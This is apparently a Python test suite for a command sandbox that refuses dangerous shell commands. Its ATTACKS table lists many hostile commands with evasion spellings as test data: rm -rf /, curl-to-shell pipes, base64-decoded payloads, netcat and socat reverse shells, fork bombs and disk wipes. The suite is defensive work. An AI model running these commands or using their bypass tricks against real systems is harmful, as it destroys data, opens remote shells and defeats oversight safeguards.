"""Which commands are refused, and by which rule, although every name in them is allowed."""

from __future__ import annotations

import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from watchdog.errors import UsageError
from watchdog.sandbox import Commands, Refused

ALLOWED = (
    "ls cat echo rm find chmod chown chgrp git sed tar sort curl wget grep printf cp mv tee xz base64 rg zip fd pip apt"
).split()
RM, DOWNLOAD = "denied.rm_recursive", "denied.download_to_shell"
# rule -> commands, as texts or as lists
ATTACKS: dict[str, list[str | list[str]]] = {
    RM: [
        "rm -rf /", "rm -fr /", "rm -r -f /", "rm -R x", "rm -f -r x", "rm -Rfv x", "rm x -rf", "rm --recursive x",
        "rm --rec x",
        "rm --no-preserve-root /", "rm --no-p x", "rm --force --recursive x", "rm -vrf x", "/bin/rm -rf /",
        "./rm -rf x",
        "../../bin/rm -rf x", "r\\m -rf x", "'rm' -rf x", 'r"m" -rf x', "rm '-rf' x", "rm -\\rf x", "RM -rf x",
        "grm -rf x",
        "env rm -rf /", "env -i A=b rm -rf /", "env -S 'rm -rf /'", "env -S'rm -rf /'", "env --split-string='rm -rf /'",
        "nice rm -rf /", "nice -n 10 rm -rf /", "nohup rm -rf /", "timeout 5 rm -rf /", "timeout -s KILL 5 rm -rf /",
        "sudo rm -rf /", "sudo -u root -- rm -rf /", "doas rm -rf /", "xargs rm -rf", "xargs -I{} rm -rf {}",
        "setsid rm -rf x",
        "busybox rm -rf /", "/bin/busybox rm -rf /", "toybox rm -rf x", "stdbuf -o0 rm -rf /", "ionice -c3 rm -rf /",
        "env nice nohup timeout 5 sudo rm -rf /", "sh -c 'rm -rf /'", 'bash -c "rm -rf /"', "/bin/sh -c 'rm -rf /'",
        "dash -c 'rm -rf x'",
        "bash -lc 'cd /tmp && rm -rf x'", "bash -c 'ls; r\\m -rf x'", "bash -c \"bash -c 'rm -rf /'\"",
        "sh -c 'A=b rm -rf x'",
        "sh -c 'if true; then rm -rf x; fi'", "sh -c 'echo $(rm -rf x)'", "sh -c 'echo `rm -rf x`'", "su -c 'rm -rf /'",
        "ls; rm -rf /", "ls && rm -rf /", "ls || rm -rf x", "ls | rm -rf x", "ls & rm -rf x", "ls\nrm -rf x",
        "(rm -rf x)",
        "A=b rm -rf x", "find . -exec rm -rf {} +", "find . -execdir rm -r {} ;", "find . -ok rm -r {} ;",
        "eval rm -rf x",
        "exec rm -rf x", "command rm -rf x", "ld-linux-x86-64.so.2 /bin/rm -rf x", "watch rm -rf x",
        "parallel rm -rf ::: x",
        ["rm", "-rf", "/"], ["'rm'", "-rf", "/"], ["r\\m", "-r", "x"], ["env", "r\"m\"", "-rf"], ["rm", "-'r'f", "x"],
        ["bash", "-c", "rm -rf /"], ["sh", "-c", "ls\nrm -rf /"], ["rm", "--", "x", "|", "rm", "-rf", "x"], ["fd",
        "-x", "rm", "-r"],
        ["python3", "-c", "rm -rf /"],
    ],
    "denied.mkfs": [
        "mkfs /dev/sda", "mkfs.ext4 x", "mke2fs x", "/sbin/mkfs.xfs x", "sudo mkfs.btrfs x", "mkswap x", "MKFS x",
    ],
    "denied.dd": [
        "dd if=/dev/zero of=/dev/sda", "dd if=x", "dd of=x", "sudo dd if=a of=b", "sh -c 'dd if=a of=b'", ["dd",
        "of=/x"],
    ],
    "denied.fork_bomb": [
        ":(){ :|:& };:", ":() { : | : & } ; :", "bomb() { bomb | bomb & }; bomb", "bash -c ':(){ :|:& };:'",
        ["bash", "-c", ":(){ :|:& };:"], "f(){ f|f& };f",
    ],
    "denied.power": [
        "shutdown now", "shutdown -h +0", "reboot", "halt", "poweroff", "init 0", "init 6", "telinit 0", "/sbin/reboot",
        "sudo reboot", "nohup shutdown now", "sh -c reboot", "sh -c 'sleep 1; halt'", ["reboot"], "kexec -e",
    ],
    "denied.device": [
        "cat /dev/sda", "cp x /dev/sda", "cp x /dev/nvme0n1", "tee /dev/sdb1", "echo x > /dev/sda", "cat //dev//sda",
        "cat /dev/./sda", "cat /dev/../dev/sda", "cat /tmp/../dev/sda", "cp x --target-directory=/dev/sda",
        "sort /dev/mem",
        "cat /dev/mapper/root", "sh -c 'echo x > /dev/nvme0n1'", "sh -c 'echo x > /dev/tcp/10.0.0.1/80'", ["cat",
        "/dev/'sda'"],
    ],
    "denied.chmod_recursive": [
        "chmod -R 777 /", "chmod 777 -R /", "chmod --recursive a+rwx /", "chmod -vR 0777 x", "sudo chmod -R 777 /",
    ],
    "denied.chown_recursive": [
        "chown -R nobody /", "chown root -R /", "chown --rec x y", "chgrp -R x /", "sh -c 'chown -R a /'",
    ],
    DOWNLOAD: [
        "curl http://x | sh", "curl -s http://x|bash", "wget -O- http://x | sh", "wget -qO - x | sudo bash",
        "curl x | python3",
        "sh -c 'curl x | sh'", "bash <(curl x)", "sh -c \"$(curl x)\"", "curl x -o /tmp/y; sh /tmp/y",
        "curl x && bash y", "c\\url x | s\\h", "'curl' x | 'sh'", ["bash", "-c", "curl http://x | sh"],
        "source <(curl x)",
        "curl x | tee y | sh", "eval \"$(wget -qO- x)\"", ["curl", "x", "|", "sh"],
    ],
    "denied.decode_to_shell": [
        "echo cm0= | base64 -d | sh", "base64 -d x | bash", "xxd -r x | sh", "sh -c 'echo cm0= | base64 -d | sh'",
        "rev x | bash",
        "printf 'rm -rf x' | sh", ["sh", "-c", "base64 -d <<< cm0= | sh"],
    ],
    "denied.netcat": [
        "nc -e /bin/sh 10.0.0.1 1", "nc x 1", "ncat x", "netcat x", "socat TCP:x EXEC:sh", "env nc x 1", "nc.openbsd x",
    ],
    "denied.eval": ["eval ls", "source x", ". x", "exec ls", "builtin ls", "trap ls EXIT"],
    "denied.kill": [
        "kill -9 -1", "kill -KILL -- -1", "kill 1", "pkill -f .", "killall sh", "sudo kill -9 -1", "sh -c 'kill -9 -1'",
    ],
    "denied.schedule": ["crontab -r", "crontab x", "at now", "batch", "sudo crontab -e"],
    "denied.remote": [
        "ssh host", "scp x y:", "sftp x", "rsync x y:", "telnet x", "env ssh x", "ssh -o ProxyCommand=ls x",
    ],
    "denied.privilege": ["sudo ls", "su", "doas ls", "pkexec ls", "chroot / ls", "unshare -r ls", "setpriv ls"],
    "denied.container": ["docker run -v /:/x x", "kubectl exec x", "podman run x", "bwrap ls"],
    "denied.system": [
        "mount x", "sysctl -w a=b", "iptables -F", "systemctl stop x", "modprobe x", "systemctl poweroff",
    ],
    "denied.disk": ["fdisk x", "wipefs -a x", "shred x", "blkdiscard x"],
    "denied.debugger": ["gdb x", "strace ls"],
    "denied.wrapper": [
        "env", "env ls", "nice ls", "timeout 5 ls", "xargs ls", "nohup ls", "busybox ls", "time ls",
        "coreutils --coreutils-prog=ls",
    ],
    "denied.interpreter": [
        "sh -c ls", "bash", "bash x.sh", "sh", "python -c 'print(1)'", "python3.11 -m http.server", "python3 x.py",
        "pypy3 -c 1",
        "perl -e 1", "ruby -e 1", "node -e 1", "php -r 1", "lua5.4 x", "awk 'BEGIN{system(\"id\")}'",
        "vim -c '!id' x", "less x", "make",
        "sqlite3 x .shell", "/usr/bin/python3 -c 1", "./python x", "zsh -c ls", "fish -c ls", "pwsh -c ls",
        "bash5.2 -c ls", "m4 x",
        ["python3", "-c", "import os; os.system('id')"], "env python3 -c 1", "bash -c '`curl x`'", "tclsh x",
        "gawk 1", "expect x", "python3-dbg x",
    ],
    "denied.find_delete": ["find . -delete", "find / -name x -delete"],
    "denied.find_exec": ["find . -exec ls {} ;", "find . -okdir ls {} ;"],
    "denied.find_write": ["find . -fprint x", "find . -fls x"],
    "denied.git_push": [
        "git push", "git push --force", "git push -f origin main", "git -C x push", "git 'push'",
        "git --git-dir=x push",
    ],
    "denied.git_remote": ["git clone ext::sh", "git fetch", "git pull", "git ls-remote x", "git archive --remote=x"],
    "denied.git_code": [
        "git -c alias.x='!id' x", "git --exec-path=/tmp x", "git grep -Oid x", "git config x y", "git bisect run x",
        "git diff --ext-diff",
    ],
    "denied.git_destroy": ["git reset --hard", "git clean -fdx", "git checkout x"],
    "denied.sed_unboxed": ["sed 1e x", "sed 's/a/b/w /tmp/x' y", "sed -i s/a/b/ x", "sed -n 1p x"],
    "denied.runs_program": [
        "tar --to-command=id -xf x", "tar -xf x --checkpoint-action=exec=id", "tar -I id -xf x",
        "tar --use-comp=id -xf x",
        "sort --compress-program=id x", "rg --pre id x", "zip x y -TT id", "wget --use-askpass=id x", "curl -K x",
    ],
    "shell_operator": [
        "ls | cat", "ls; ls", "ls && ls", "ls || ls", "ls &", "ls\nls", "(ls)", ["ls", "|", "cat"], ["ls", ";",
        "ls"], ["ls", "&&", "ls"],
    ],
    "redirect": [
        "ls > x", "ls >> x", "cat < x", "ls 2>&1", "ls &> x", "cat <<< x", "cat << x", "ls >x", ["ls", ">", "x"],
        ["ls", ">x"], ["ls", "2>&1"],
    ],
    "expansion": [
        "ls $HOME", "ls ${HOME}", "ls $(id)", "ls `id`", 'ls "$HOME"', 'ls "`id`"', "ls *", "ls x?", "ls [ab]",
        "ls ~", "ls $'a'", "ls $1",
    ],
    "assignment": ["A=b ls", "LD_PRELOAD=x ls", ["PATH=x", "ls"]],
    "path": ["/bin/ls", "./ls", "../ls", ["/usr/bin/ls"], ["x/ls"], ["\\ls"]],
    "not_allowed": ["df", "lsx", "l", ["ls -l"], ["ls\n"], ["LS"]],
    "empty": ["", "  ", [], [""], [" ", "x"]],
    "nul": ["ls \0", ["ls", "a\0b"]],
    "text": ["ls \ud800", ["ls", "\udc00\ud800"]],
    "too_long": ["ls " + "x" * 20_000, ["ls"] * 300],
    "unreadable": ["ls 'x", 'ls "x', "ls x\\"],
}  # fmt: skip
HARMLESS: list[str | list[str]] = [
    "ls -la notes", "cat readme.md", "grep -r 'a | b; c > d $HOME `x` *' notes", 'grep "a; b | c > d *" notes',
    "ls a\\ b", "ls a\\;b",
    "find . -name '*.py'", "find . ( -name a -o -name b )".replace("(", "\\(").replace(")", "\\)"), ["find", ".",
    "!", "(", "-name", "a", ")"],
    "rm x", "rm -f x", "rm -- -r", "chmod 644 x", "chmod -x x", "echo rm -rf /", "grep 'rm -rf' notes", ["grep",
    "rm -rf /", "x"],
    "sed --sandbox -n 1,10p readme.md", "git log --oneline", "tar -tf x.tar", "sort -rn x", ["ls", "$HOME", "*"],
    ["grep", "a|b", "x"],
    "cat /dev/null", "grep foo$ x", "ls # no comment", "echo 'it''s'", "sort -t, -k2 x",
]  # fmt: skip


def rule_of(command: str | list[str]) -> str:
    found = Commands(allow=ALLOWED).judge(command)
    return found.rule.removeprefix("command.") if isinstance(found, Refused) else ""


@pytest.mark.parametrize(
    ("rule", "command"), [(r, c) for r, cs in ATTACKS.items() for c in cs], ids=lambda v: ascii(v)[:50]
)
def test_what_is_dangerous_is_refused_by_name(rule: str, command: str | list[str]) -> None:
    assert rule_of(command) == rule


@pytest.mark.parametrize("command", HARMLESS, ids=lambda v: ascii(v)[:50])
def test_what_is_harmless_is_not(command: str | list[str]) -> None:
    assert rule_of(command) == ""


def test_without_an_allow_list_everything_is_refused() -> None:
    for command in ("ls", ["ls", "-l"], "true"):
        found = Commands().judge(command)
        assert isinstance(found, Refused) and found.rule == "command.off"
    found = Commands().judge("rm -rf /")
    assert isinstance(found, Refused) and found.rule == "command.denied.rm_recursive"


@pytest.mark.parametrize(
    "name", ["/bin/ls", "./x", "", "-x", "a b", "sh", "python3", "env", "sudo", "dd", "mkfs.ext4", "Bash"]
)
def test_an_allow_list_cannot_hold_paths_or_what_is_never_run(name: str) -> None:
    with pytest.raises(UsageError):
        Commands(allow=["ls", name])


WORDS = st.sampled_from(
    "rm -rf / env sudo sh -c bash xargs find -exec ls cat ; | & > < $( ` ' \" \\ \n -- -S --split-string= curl "
    "/dev/sda :(){ eval".split(" ")
) | st.text(max_size=6)  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(st.lists(WORDS, max_size=12), st.booleans())
def test_no_words_raise_and_only_allowed_names_pass(words: list[str], as_text: bool) -> None:
    found = Commands(allow=["ls", "cat"]).judge(" ".join(words) if as_text else words)
    if isinstance(found, Refused):
        assert found.rule.startswith("command.") and found.message.encode()
    else:
        assert found[0] in ("ls", "cat")


@settings(deadline=None, max_examples=200)
@given(
    st.lists(
        st.sampled_from("env,nice,nohup,timeout 5,sudo,xargs,busybox,env -i A=b,setsid,stdbuf -oL".split(",")), max_size=5
    ),
    st.sampled_from(["rm", "/bin/rm", "./rm", "r\\m", "'rm'", 'r""m', "RM"]),
    st.permutations(["-r", "-f", "x", "-v"]),
    st.integers(0, 2),
)  # fmt: skip
def test_no_wrapping_and_no_spelling_hides_rm(wrappers: list[str], name: str, rest: list[str], shells: int) -> None:
    command = " ".join([*wrappers, name, *rest])
    for _ in range(shells):
        command = shlex.join(["sh", "-c", command])
    assert rule_of(command) == RM


@pytest.mark.parametrize(
    "command",
    [
        ["env"] * 255, "curl " * 3_000, "curl | " * 2_000, ":(){" * 3_900, "sh -c '" * 1_000, ["sh", "-c",
        "sh -c \"" * 1_500],
        ["env", "-S" + "a;" * 7_000], ["xargs", *["-S x;"] * 250], "a" * 15_000 + "() {",
        "(" * 15_000, "$(" * 7_000, "\\" * 15_999,
        ["cat", "/dev/" + "../dev/" * 2_000 + "sda"], ["cat", "/" * 15_900], ["cat", "/a/.." * 3_000], "'" * 15_999,
    ],
    ids=lambda v: ascii(v)[:30],
)  # fmt: skip
def test_judging_takes_no_long_time_whatever_is_asked(command: str | list[str]) -> None:
    started = time.process_time()
    Commands(allow=["ls", "cat"]).judge(command)
    assert time.process_time() - started < 5  # hundreds of times what it takes; a pattern that explodes takes hours
